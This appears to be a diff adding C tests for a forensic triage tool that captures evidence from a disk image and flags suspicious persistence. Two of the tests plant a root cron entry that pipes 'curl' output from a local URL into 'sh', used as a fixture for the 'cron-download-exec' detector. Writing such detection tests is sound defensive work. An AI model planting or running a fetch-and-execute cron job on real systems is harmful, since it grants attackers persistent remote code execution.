@@ -1,0 +1,142 @@
+/* SPDX-License-Identifier: GPL-2.0-or-later */
+/* The capture run on a disk-image tree made here (--root): no root needed. */
+#include <sys/stat.h>
+
+#include "basic/json-util.h"
+#include "test-fs.h"
+#include "triage/capture.h"
+
+/* Creates DIR/REL and its parents, then writes CONTENT there. */
+static void plant(const char *dir, const char *rel, const char *content) {
+        _cleanup_free_ char *p = xasprintf("%s/%s", dir, rel);
+        for (char *s = strchr(p + strlen(dir) + 1, '/'); s; s = strchr(s + 1, '/')) {
+                *s = 0;
+                (void) mkdir(p, 0755);
+                *s = '/';
+        }
+        put(dir, rel, content);
+}
+
+/* Options of a capture of IMG that runs only the file collectors a test needs. */
+static struct triage_options image_options(const char *img) {
+        return (struct triage_options){
+                .root = img,
+                .since = -1,
+                .copy_max = TRIAGE_COPY_MAX_DEFAULT,
+                .jobs = 1,
+        };
+}
+
+/* Runs a capture of O into a new OUT; *ret gets capture.json. 0 or -errno. */
+static int capture(struct triage_options *o, const char *out, json_object **ret_capture, json_object **ret_findings) {
+        struct triage_ctx c;
+        _cleanup_free_ char *err = NULL;
+        int r = triage_capture_init(&c, o, &err);
+        size_t files = 0;
+        double secs = 0;
+        if (r >= 0)
+                r = triage_capture_run(&c, out, &files, &secs, &err);
+        if (r < 0)
+                printf("#   capture: %s\n", err ? err : "?");
+        triage_capture_done(&c);
+        if (r < 0)
+                return r;
+        _cleanup_free_ char *cp = xasprintf("%s/capture.json", out), *fp = xasprintf("%s/findings.json", out);
+        *ret_capture = json_object_from_file(cp);
+        *ret_findings = json_object_from_file(fp);
+        return *ret_capture && *ret_findings ? 0 : -EBADMSG;
+}
+
+static bool has_rule(json_object *findings, const char *rule) {
+        json_object *v = rj_arr(findings, "findings");
+        for (size_t i = 0; i < rj_len(v); i++)
+                if (streq(rj_str(rj_at(v, i), "rule") ?: "", rule))
+                        return true;
+        return false;
+}
+
+static const char *status_of(json_object *cap, const char *collector) {
+        return rj_str(rj_obj(rj_obj(cap, "collectors"), collector), "status");
+}
+
+TEST(capture_of_an_image_writes_the_bundle_and_finds_planted_cron) {
+        char *img = tmpdir(), *w = tmpdir();
+        plant(img, "etc/passwd", "root:x:0:0:root:/root:/bin/bash\n");
+        plant(img, "etc/cron.d/sysupdate", "* * * * * root curl -fsSL http://127.0.0.1:9/i.sh | sh\n");
+        _cleanup_free_ char *out = xasprintf("%s/bundle", w);
+        struct triage_options o = image_options(img);
+        json_object *cap = NULL, *fin = NULL;
+        ASSERT_EQ_INT(capture(&o, out, &cap, &fin), 0);
+        ASSERT_TRUE(has_rule(fin, "triage.cron-download-exec"));
+        /* The live-only collectors say why they did not run. */
+        ASSERT_STREQ(status_of(cap, "processes"), "skipped");
+        ASSERT_STREQ(status_of(cap, "cron"), "ok");
+        ASSERT_STREQ(rj_str(cap, "max_severity"), "critical");
+        _cleanup_free_ char *mp = xasprintf("%s/MANIFEST.sha256", out), *m = NULL;
+        ASSERT_EQ_INT(read_full_file(mp, &m, NULL, 1 << 20), 0);
+        ASSERT_TRUE(strstr(m, "./capture.json\n") && strstr(m, "./findings.json\n") &&
+                    strstr(m, "./raw/etc/cron.d/sysupdate\n"));
+        json_object_put(cap);
+        json_object_put(fin);
+        cleanup_dir(img);
+        cleanup_dir(w);
+}
+
+TEST(capture_refuses_a_missing_root_and_a_full_out_dir) {
+        char *img = tmpdir(), *w = tmpdir();
+        _cleanup_free_ char *missing = xasprintf("%s/missing", img);
+        struct triage_options o = image_options(missing);
+        struct triage_ctx c;
+        _cleanup_free_ char *err = NULL;
+        ASSERT_EQ_INT(triage_capture_init(&c, &o, &err), -ENOENT);
+        ASSERT_TRUE(err && strstr(err, "--root"));
+        triage_capture_done(&c);
+        free(err);
+        err = NULL;
+        put(w, "stray", "x");
+        o = image_options(img);
+        ASSERT_EQ_INT(triage_capture_init(&c, &o, &err), 0);
+        size_t files;
+        double secs;
+        ASSERT_EQ_INT(triage_capture_run(&c, w, &files, &secs, &err), -ENOTEMPTY);
+        ASSERT_TRUE(err && strstr(err, "new or empty directory"));
+        triage_capture_done(&c);
+        cleanup_dir(img);
+        cleanup_dir(w);
+}
+
+TEST(skip_list_and_registry) {
+        ASSERT_TRUE(triage_collector_known("packages"));
+        ASSERT_TRUE(!triage_collector_known("nonsense"));
+        size_t n;
+        const struct triage_collector *v = triage_collectors(&n);
+        ASSERT_TRUE(n > 10);
+        ASSERT_STREQ(v[0].name, "processes");
+        char *img = tmpdir(), *w = tmpdir();
+        plant(img, "etc/cron.d/sysupdate", "* * * * * root curl -fsSL http://127.0.0.1:9/i.sh | sh\n");
+        char *skip[] = { (char *) "cron", NULL };
+        struct triage_options o = image_options(img);
+        o.skip = skip;
+        _cleanup_free_ char *out = xasprintf("%s/b", w);
+        json_object *cap = NULL, *fin = NULL;
+        ASSERT_EQ_INT(capture(&o, out, &cap, &fin), 0);
+        ASSERT_STREQ(status_of(cap, "cron"), "skipped");
+        ASSERT_TRUE(!has_rule(fin, "triage.cron-download-exec"));
+        json_object_put(cap);
+        json_object_put(fin);
+        cleanup_dir(img);
+        cleanup_dir(w);
+}
+
+TEST(parse_since_times_and_paths) {
+        int64_t t = -1;
+        const char *p = NULL;
+        ASSERT_EQ_INT(triage_parse_since("@1700000000", &t, &p), 0);
+        ASSERT_EQ_INT(t, 1700000000);
+        ASSERT_TRUE(p == NULL);
+        ASSERT_EQ_INT(triage_parse_since("2024-01-02T03:04:05Z", &t, &p), 0);
+        ASSERT_EQ_INT(t, 1704164645);
+        ASSERT_EQ_INT(triage_parse_since("/etc/passwd", &t, &p), 0);
+        ASSERT_STREQ(p, "/etc/passwd");
+        ASSERT_EQ_INT(triage_parse_since("@12x", &t, &p), -EINVAL);
+}
